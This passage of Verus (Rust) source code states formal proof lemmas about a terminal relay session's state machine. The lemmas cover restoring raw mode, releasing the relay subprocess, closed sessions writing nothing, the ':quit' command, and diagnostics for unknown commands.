pub proof fn law_raw_mode_is_restored(m: RelayView, ok: bool, line: Option<Seq<char>>)
    ensures
        raw_during(m.step) ==> state_of(m.step) != SessionState::Closed,
        !raw_during(m.step) && raw_during(after_result(m, ok).step) ==> action_for(m.step)
            == RelayAction::EnterRaw && ok,
        raw_during(m.step) && !raw_during(after_result(m, ok).step) ==> action_for(m.step)
            == RelayAction::RestoreMode,
        raw_during(m.step) ==> action_for(m.step) == RelayAction::RestoreMode || action_for(
            after_result(m, ok).step,
        ) == RelayAction::RestoreMode,
        raw_during(after_line(m, line).step) == raw_during(m.step),
{
}

/// The relay subprocess is released once it was started: it runs from a
/// successful `SpawnRelay` to the `ReleaseRelay` that every path from there
/// leads through, and the session is never closed while it runs.
pub proof fn law_relay_is_released(m: RelayView, ok: bool)
    ensures
        relay_during(m.step) ==> state_of(m.step) == SessionState::UpgradingRaw,
        !relay_during(m.step) && relay_during(after_result(m, ok).step) ==> action_for(m.step)
            == RelayAction::SpawnRelay && ok,
        relay_during(m.step) && !relay_during(after_result(m, ok).step) ==> action_for(m.step)
            == RelayAction::ReleaseRelay,
{
}

/// A session that is closed stays closed whatever is reported to it, and
/// asks for nothing but to close the primary channel's input, to wait for
/// the primary subprocess and to finish: nothing is written to the channel
/// any more.
pub proof fn law_closed_session_writes_nothing(m: RelayView, events: Seq<RelayEvent>)
    requires
        state_of(m.step) == SessionState::Closed,
    ensures
        ({
            let end = relay_run(m, events);
            &&& state_of(end.step) == SessionState::Closed
            &&& action_for(end.step) == RelayAction::ClosePrimaryInput || action_for(end.step)
                == RelayAction::WaitPrimary || action_for(end.step) == RelayAction::Finish
            &&& end.text == m.text
        }),
    decreases events.len(),
{
    if events.len() > 0 {
        law_closed_session_writes_nothing(m, events.drop_last());
    }
}

/// `:quit` in the interactive state closes the session at once: the next
/// action closes the primary channel's input, and from then on nothing is
/// written to that channel.
pub proof fn law_quit_closes(m: RelayView, line: Seq<char>, ok: bool, later: Option<Seq<char>>)
    requires
        m.step == RelayStep::Reading,
        strip_line_feeds(line) == quit_word(),
    ensures
        after_line(m, Some(line)).step == RelayStep::Closing,
        action_for(after_line(m, Some(line)).step) == RelayAction::ClosePrimaryInput,
        state_of(after_line(m, Some(line)).step) == SessionState::Closed,
        action_for(after_result(after_line(m, Some(line)), ok).step) == RelayAction::WaitPrimary,
        after_line(after_line(m, Some(line)), later) == after_line(m, Some(line)),
{
}

/// A line that begins with `:` and is none of the three commands earns a
/// diagnostic and leaves the session interactive; the line after it is read
/// as any other.
pub proof fn law_unknown_command_is_reported(m: RelayView, line: Seq<char>, ok: bool)
    requires
        m.step == RelayStep::Reading,
        classify(strip_line_feeds(line)) == LineKind::Unknown,
    ensures
        after_line(m, Some(line)).step == RelayStep::Diagnosing,
        after_line(m, Some(line)).text == unknown_text(strip_line_feeds(line)),
        state_of(after_line(m, Some(line)).step) == SessionState::Interactive,
        after_result(after_line(m, Some(line)), ok).step == RelayStep::Reading,
        after_result(after_line(m, Some(line)), ok).failed == m.failed,
{
}

} // verus!
